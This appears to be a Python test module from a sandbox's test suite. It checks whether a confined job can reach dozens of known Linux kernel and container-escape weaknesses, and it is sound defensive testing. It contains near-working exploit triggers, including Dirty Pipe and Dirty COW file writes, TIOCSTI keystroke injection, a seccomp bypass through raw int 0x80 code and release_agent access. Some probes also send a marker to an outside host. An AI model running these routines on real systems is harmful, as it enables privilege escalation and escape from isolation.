"""What was reported of kernels, tried from a step. `how` names the report: a CVE stands there only if its published record describes what is
tried; what has no number, or none that fits, is named by its kind.

A report that is closed on this machine cannot be shown without the fence: `absent` says so. Nothing here writes to a switch of the machine:
that it can be opened is the way out.
"""
import ctypes
import fcntl
import mmap
import os
import signal
import socket
import struct
import subprocess
import termios

from common import Stopped, attempt, call
from kernel import stranger

SECCOMP = "seccomp"
PROC = "/proc and /sys of the view: read-only, or not there"
NO_RISE = "no_new_privs; nosuid"
VIEW = "mount namespace: no such place, or a private one"
PATCHED = "it is closed on this machine, without the fence too"
USER, MOUNT, NETWORK, CGROUP = 0x10000000, 0x20000, 0x40000000, 0x2000000


def reported(name, report, how, layer, **more):
    return attempt("reported-" + name, f"{how} ({report})", layer, **more)


# --- namespaces and what the kernel does in them

@reported("release-agent", "CVE-2022-0492", "a release_agent of cgroups, which the kernel runs as root, in namespaces of one's own", SECCOMP, opens=True, absent=PATCHED)
def _(t):
    call(272, USER | MOUNT | CGROUP)
    os.makedirs("/tmp/release", exist_ok=True)
    call(165, b"cgroup", b"/tmp/release", b"cgroup", 0, b"rdma")
    os.close(os.open("/tmp/release/release_agent", os.O_WRONLY))


@reported("release-agent-there", "CVE-2022-0492", "one that is mounted already", PROC + "; no cgroup file system", opens=True, absent="a host of the test cluster has a cgroup namespace: the file is only at the machine's root")
def _(t):
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            os.close(os.open(os.path.join(folder, "release_agent"), os.O_WRONLY))
            return
    raise Stopped("no such file")


@reported("user-overlay", "CVE-2023-0386, CVE-2021-3493", "an overlay mounted in a user namespace", SECCOMP, opens=True)
def _(t):
    user, group = os.getuid(), os.getgid()
    call(272, USER | MOUNT)
    for name, text in (("uid_map", f"0 {user} 1"), ("setgroups", "deny"), ("gid_map", f"0 {group} 1")):
        with open("/proc/self/" + name, "w") as f:
            f.write(text)
    os.makedirs("/tmp/overlay", exist_ok=True)
    call(165, b"none", b"/tmp/overlay", b"tmpfs", 0, 0)
    for name in ("lower", "upper", "work", "merged"):
        os.mkdir("/tmp/overlay/" + name)
    call(165, b"overlay", b"/tmp/overlay/merged", b"overlay", 0, b"lowerdir=/tmp/overlay/lower,upperdir=/tmp/overlay/upper,workdir=/tmp/overlay/work")


@reported("fsconfig", "CVE-2022-0185", "a long parameter of a file system's context in a user namespace", SECCOMP, opens=True)
def _(t):
    call(272, USER | MOUNT)
    fd = call(430, b"tmpfs", 0)
    try:
        call(431, fd, 1, b"\0", b"A" * 255, 0)  # FSCONFIG_SET_STRING: a parameter without a name
    except OSError as error:
        if error.errno != 22:
            raise


@reported("packet-in-namespace", "CVE-2017-7308, CVE-2020-14386", "a packet socket in network and user namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()


@reported("nftables-in-namespace", "CVE-2022-32250, CVE-2024-1086", "nf_tables in network and user namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
        s.bind((0, 0))


@reported("xtables-in-namespace", "CVE-2021-22555", "iptables' options of a socket in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()


@reported("xfrm-in-namespace", "CVE-2022-27666", "IPsec's tables in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 6).close()


@reported("traffic-in-namespace", "CVE-2023-1281, CVE-2022-2588, CVE-2022-29581", "queues of a network card in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        body = struct.pack("BBHiIII", 0, 0, 0, socket.if_nametoindex("lo"), 0xFFFF0000, 0xFFFFFFF1, 0) + struct.pack("HH8s", 12, 1, b"ingress\0")
        s.send(struct.pack("IHHII", 16 + len(body), 36, 0x605, 1, 0) + body)  # RTM_NEWQDISC
        code = struct.unpack_from("i", s.recv(4096), 16)[0]
        if code not in (0, -2, -22, -95):  # it may lack the queue; that it asks is the door
            raise OSError(-code, os.strerror(-code))


@reported("namespace-shared-folder", "CVE-2013-1858", "a user namespace that shares its root with others (CLONE_NEWUSER | CLONE_FS)", SECCOMP, opens=True, absent=PATCHED)
def _(t):
    pid = call(56, USER | 0x200 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


# --- the kernel's switches: opened, never written

SWITCHES = {"core-pattern": ("/proc/sys/kernel/core_pattern", os.O_WRONLY, "CVE-2022-0811"), "usermodehelper": ("/proc/sys/kernel/usermodehelper/bset", os.O_WRONLY, "escapes by helpers"),
            "panic": ("/proc/sys/vm/panic_on_oom", os.O_WRONLY, "a switch of the whole machine"), "timer-list": ("/proc/timer_list", os.O_RDONLY, "what the timers of others are"),
            "page-counts": ("/proc/kpagecount", os.O_RDONLY, "rowhammer"), "page-flags": ("/proc/kpageflags", os.O_RDONLY, "rowhammer"),
            "ksm": ("/sys/kernel/mm/ksm/run", os.O_WRONLY, "deduplicated memory as a side channel"), "slabs": ("/proc/slabinfo", os.O_RDONLY, "slab side channels"),
            "vmalloc": ("/proc/vmallocinfo", os.O_RDONLY, "kernel addresses"), "addresses": ("/proc/sys/kernel/randomize_va_space", os.O_WRONLY, "container escapes"),
            "dumpable": ("/proc/sys/fs/suid_dumpable", os.O_WRONLY, "core dumps of privileged programs"), "power": ("/sys/power/state", os.O_WRONLY, "a switch of the whole machine"),
            "init-memory": ("/proc/1/mem", os.O_RDWR, "CVE-2012-0056"),
            "init-pid": ("/proc/sys/kernel/cad_pid", os.O_WRONLY, "container escapes"), "page-types": ("/proc/pagetypeinfo", os.O_RDONLY, "memory side channels"),
            "drop-caches": ("/proc/sys/vm/drop_caches", os.O_WRONLY, "page cache attacks")}
for label, (path, mode, report) in SWITCHES.items():
    @reported("switch-" + label, report, f"open {path}", PROC + "; not the account's", opens=True, privilege="it is root's")
    def _(t, path=path, mode=mode): os.close(os.open(path, mode))

ESCAPES = "container escapes"
MISSING = {"sysrq": ("/proc/sysrq-trigger", ESCAPES), "modprobe": ("/proc/sys/kernel/modprobe", ESCAPES), "uevent": ("/sys/kernel/uevent_helper", ESCAPES),
           "binfmt": ("/proc/sys/fs/binfmt_misc/register", ESCAPES), "kcore": ("/proc/kcore", ESCAPES), "trace-marker": ("/sys/kernel/tracing/trace_marker", ESCAPES),
           "efi": ("/sys/firmware/efi/efivars", ESCAPES), "idle-pages": ("/sys/kernel/mm/page_idle/bitmap", ESCAPES),
           "scsi": ("/proc/scsi/scsi", "CVE-2017-16539"), "acpi": ("/proc/acpi/wakeup", "CVE-2018-10892"), "latency": ("/proc/latency_stats", "CVE-2015-3630")}
for label, (path, report) in MISSING.items():
    @reported("switch-" + label, report, f"open {path}", PROC + "; not the account's", opens=True,
              **({"privilege": "it is root's"} if os.path.exists(path) else {"absent": "this kernel has none"}))
    def _(t, path=path): os.close(os.open(path, os.O_RDONLY if path.endswith(("kcore", "efivars")) else os.O_WRONLY))


@reported("last-pid", "checkpoints' ns_last_pid as a notice board", "the number of the next process", "no capabilities", opens=True, privilege="it needs CAP_CHECKPOINT_RESTORE")
def _(t):
    with open("/proc/sys/kernel/ns_last_pid", "r+") as f:
        last = f.read()
        f.seek(0)
        f.write(last)


# --- pages and memory that are others' too

def must_change(path, before):
    with open(path, "rb") as f:
        if f.read(64) == before:
            raise Stopped("the file is as it was")


@reported("dirty-pipe", "CVE-2022-0847", "write into a page of a dataset's file by a pipe", "the kernel; datasets are mounted read-only", opens=True, absent=PATCHED)
def _(t):
    path = os.path.join(t.data, "shared-file")
    with open(path, "rb") as f:
        before = f.read(64)
        out, into = os.pipe()
        size = fcntl.fcntl(into, 1032)  # F_GETPIPE_SZ
        os.write(into, b"\0" * size)
        os.read(out, size)
        os.splice(f.fileno(), into, 1, offset_src=0)
    os.write(into, t.mark)
    must_change(path, before)


@reported("dirty-cow", "CVE-2016-5195", "write into a private page of a file that is only read, while it is given back", "the kernel; datasets are mounted read-only", opens=True, absent=PATCHED)
def _(t):
    path = os.path.join(t.data, "shared-file")
    with open(path, "rb") as f, mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ) as page, open("/proc/self/mem", "r+b", buffering=0) as memory:
        before = page[:64]
        with open("/proc/self/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if line.rstrip().endswith(path))
        for _ in range(200):
            memory.seek(start)
            memory.write(t.mark)
            page.madvise(mmap.MADV_DONTNEED)
    must_change(path, before)


@reported("vmsplice", "CVE-2008-0600", "give pages at a kernel's address to a pipe (vmsplice), and read them there", "the kernel", opens=True, absent=PATCHED)
def _(t):
    out, into = os.pipe()
    call(278, into, struct.pack("PN", 0xFFFFFFFF81000000, 64), 1, 0)
    os.read(out, 64)


@reported("dump-as-root", "CVE-2006-2451", "a process whose core dump root writes (PR_SET_DUMPABLE, 2)", "the kernel; core dumps are limited to a byte", opens=True, absent=PATCHED)
def _(t): call(157, 4, 2, 0, 0, 0)


@reported("page-cache-look", "CVE-2019-5489", "which pages of root's file others have read (mincore)", "the kernel", opens=True, absent=PATCHED)
def _(t):
    with open("/usr/lib/locale/C.utf8/LC_CTYPE", "rb") as f:
        page = mmap.mmap(f.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)  # of its own: written to, so that its address can be had
    where, size = ctypes.addressof(ctypes.c_char.from_buffer(page)), len(page)
    pages = (ctypes.c_ubyte * ((size + 4095) // 4096))()
    page.madvise(mmap.MADV_RANDOM)
    call(27, where, size, pages)
    if all(one & 1 for one in pages):
        raise Stopped("all are said to be there, whoever asks")


@reported("memory-file", "programs that are on no disk", "run a program from memory (memfd) that connects to outside", "the fence is inherited, whatever runs")
def _(t):
    fd = os.memfd_create("program", 0)
    os.write(fd, f"import socket; s = socket.create_connection(({t.outside!r}, {t.port}), 3); s.send({t.mark!r})".encode())
    done = subprocess.run(["/usr/bin/python3", f"/proc/self/fd/{fd}"], pass_fds=[fd], capture_output=True, text=True, timeout=4)
    if done.returncode:
        raise Stopped((done.stderr.strip().splitlines() or [""])[-1][:120])


@reported("session-keyring", "CVE-2016-0728", "a session keyring by name", SECCOMP, opens=True)
def _(t): call(250, 1, t.mark)


@reported("traced-parent", "CVE-2019-13272", "a traced child that starts a setuid program", NO_RISE, opens=True, absent=PATCHED)
def _(t):
    child = os.fork()
    if child == 0:
        call(101, 0, 0, 0, 0)
        os.execv("/usr/bin/su", ["su"])
    os.waitpid(child, 0)
    with open(f"/proc/{child}/status") as f:
        effective = next(line.split()[2] for line in f if line.startswith("Uid:"))
    os.kill(child, signal.SIGKILL)
    if effective != "0":
        raise Stopped(f"it runs as {effective}")


@reported("terminal-input", "CVE-2016-10124, CVE-2017-5226, CVE-2016-2779", "keys pushed into a terminal outside (TIOCSTI)", "a /dev of the job's own: no terminals", opens=True,
          absent="only into the controlling terminal, without the fence too")
def _(t):
    with open(os.path.join(t.work, "terminal." + socket.gethostname())) as f:
        terminal = os.open(f.read(), os.O_RDWR | os.O_NOCTTY)
    for byte in t.mark:
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))


@reported("terminal-input-wide", "CVE-2019-7303, CVE-2019-10063", "the same with a bit above the 32 that the kernel looks at", "a /dev of the job's own: no terminals", opens=True,
          absent="only into the controlling terminal, without the fence too")
def _(t):
    with open(os.path.join(t.work, "terminal." + socket.gethostname())) as f:
        terminal = os.open(f.read(), os.O_RDWR | os.O_NOCTTY)
    for byte in t.mark:
        call(16, terminal, termios.TIOCSTI | 1 << 32, bytes([byte]))


@reported("terminal-selection", "CVE-2023-1523", "the console's selection pasted into a terminal (TIOCLINUX)", "a /dev of the job's own: no terminals", opens=True,
          absent="there is no console that an account may open")
def _(t): fcntl.ioctl(os.open("/dev/tty0", os.O_RDWR | os.O_NOCTTY), 0x541C, b"\x03")


@reported("other-architecture", "CVE-2009-0835", "a call of 32-bit programs (int 0x80), whose numbers a filter may not know: a user namespace", SECCOMP + ", which knows one architecture", opens=True)
def _(t):
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"  # push rbx; eax = 310 (unshare); ebx = CLONE_NEWUSER; int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result < 0:
        raise OSError(-result, os.strerror(-result))


@reported("x32", "seccomp(2)'s own warning", "a call by its x32 number, which a filter may not know: a user namespace", SECCOMP + ", which knows one architecture", opens=True,
          absent="this kernel has no x32")
def _(t): call(0x40000000 | 272, USER)


@reported("filter-of-own", "seccomp's user notification as a way around", "answer one's own calls as a supervisor, and go on (SECCOMP_USER_NOTIF_FLAG_CONTINUE)", SECCOMP + ": filters add up, the strictest wins", opens=True)
def _(t):
    libc = ctypes.CDLL(None)
    libc.prctl(38, 1, 0, 0, 0)
    program = struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)  # return allow
    buffer = ctypes.create_string_buffer(program)
    call(317, 1, 0, struct.pack("HxxxxxxP", 1, ctypes.addressof(buffer)))
    call(272, USER)


@reported("unix-rights-storm", "CVE-2021-0920", "descriptors in flight between sockets, collected while they are read; then a call to outside", "cgroup BPF, connect and sendmsg")
def _(t):
    for _ in range(50):
        a, b = socket.socketpair()
        socket.send_fds(a, [b"x"], [a.fileno(), b.fileno()])
        a.close()
        b.close()
    with socket.create_connection((t.outside, t.port), 3) as s:
        s.send(t.mark)


@reported("raw-by-ping", "CVE-2017-2671", "a ping socket, connected, disconnected, and its echo", "cgroup BPF, connect and sendmsg")
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.connect(("127.0.0.1", 0))
        call(42, s.fileno(), struct.pack("H14x", 0), 16)  # connect to AF_UNSPEC: disconnect
        s.sendto(b"\x08\0\0\0\0\1\0\1" + t.mark, (t.outside, 0))


@reported("numa-move", "CVE-2017-14140", "where pages of a process outside lie (move_pages)", "Landlock domain; seccomp", opens=True)
def _(t):
    status = (ctypes.c_int * 1)()
    call(279, stranger(t), 1, struct.pack("P", 4096), 0, status, 0)


@reported("io-priority", "priorities as a notice board", "the I/O priority of a process outside", "Landlock domain; seccomp", opens=True,
          allowed="it needs a process of the same account outside the job on the node: enclave accounts have no logins there")
def _(t): call(251, 1, stranger(t), 2 << 13 | t.number % 8)


